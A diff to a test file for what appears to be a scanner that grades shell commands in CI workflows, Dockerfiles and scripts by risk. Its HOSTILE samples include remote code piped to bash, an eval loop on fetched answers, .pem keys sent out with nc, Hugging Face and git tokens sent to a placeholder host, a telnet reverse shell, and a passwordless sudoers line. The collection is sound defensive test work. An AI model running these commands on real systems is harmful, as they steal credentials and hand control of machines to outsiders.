@@ -38,6 +38,15 @@ HOSTILE = {
     "two telnets": "telnet e.invalid 1 | /bin/bash | telnet e.invalid 2",
     "what was decoded into a variable": 'X=$(echo aWQ= | base64 -d)\neval "$X"',
     "unpacked and run": "gunzip -c notes.gz | sh",
+    "a function that fetches": f'get() {{ wget -qO- "$1"; }}\nget {S}/x | bash',
+    "a function of several lines": f'get() {{\n  curl -s "$1"\n}}\nget {S}/x | bash',
+    "answers that are run in a loop": f'while true; do c=$(curl -s {S}/n); eval "$c"; done',
+    "what Python runs, decoded": "echo aQ== | base64 -d > /usr/lib/python3/sitecustomize.py",
+    "keys that are sought": 'S=$(find / -name "*.pem")\ntar cz $S | nc e.invalid 99',
+    "a token in a header, in the clear": (
+        f'T=$(cat ~/.cache/huggingface/token)\nwget -q --header="X: $T" {S}/h'
+    ),
+    "a login of git": f"git config --get http.x.extraheader | base64 | curl -d @- {S}",
     "a line of a profile in quotes": 'echo "bash ~/.cache/.u &" >> ~/.profile',
 }
 HONEST = {
@@ -62,6 +71,12 @@ HONEST = {
         'URL="http://169.254.169.254/latest/meta-data/iam/security-credentials/"$ROLE\n'
         "wget $URL -O iam.json"
     ),
+    "a new key": "ssh-keygen -t ed25519 -N '' -f ~/.ssh/id_ed25519",
+    "a token in a header of the house": (
+        'curl -H "Authorization: Bearer $API_TOKEN" http://10.0.0.5:8080/v1/models\n'
+        'curl -H "X: $API_TOKEN" http://api:8000/x'
+    ),
+    "a function that asks": f"get() {{\n  curl -s {S}/v\n}}\nV=$(get)\necho $V | sed s/a/b/",
     "line ends": "tr -d '\\r' < run.txt | sh",
     "a sum of what was fetched": f"curl -LO {S}/a.json\nSUM=`cat v/a.json | md5sum`",
     "an installer beside other things": (
@@ -111,6 +126,20 @@ def test_a_step_that_starts_what_another_has_fetched_is_told():
     text = f"a:\n  script:\n    - curl -o /tmp/x {S}/x\n    - chmod +x /tmp/x\n    - /tmp/x\n"
 
     assert _worst(".gitlab-ci.yml", text) == MEDIUM
+
+
+def test_a_short_step_is_followed_as_well():
+    steps = "".join(f"      - run: {one}\n" for one in (f"curl -o t {S}/t", "chmod +x t", "./t"))
+    text = f"on: push\njobs:\n  a:\n    steps:\n{steps}"
+
+    assert _worst(".github/workflows/a.yml", text) == MEDIUM
+
+
+def test_the_user_of_an_image_may_be_its_administrator():
+    line = "echo 'app ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/app"
+
+    assert _worst("Dockerfile", f"FROM x\nRUN useradd app && {line}\n") < MEDIUM
+    assert _worst("setup.sh", f"#!/bin/sh\n{line}\n") >= HIGH
 
 
 def test_a_command_written_as_a_list_is_read_as_one():
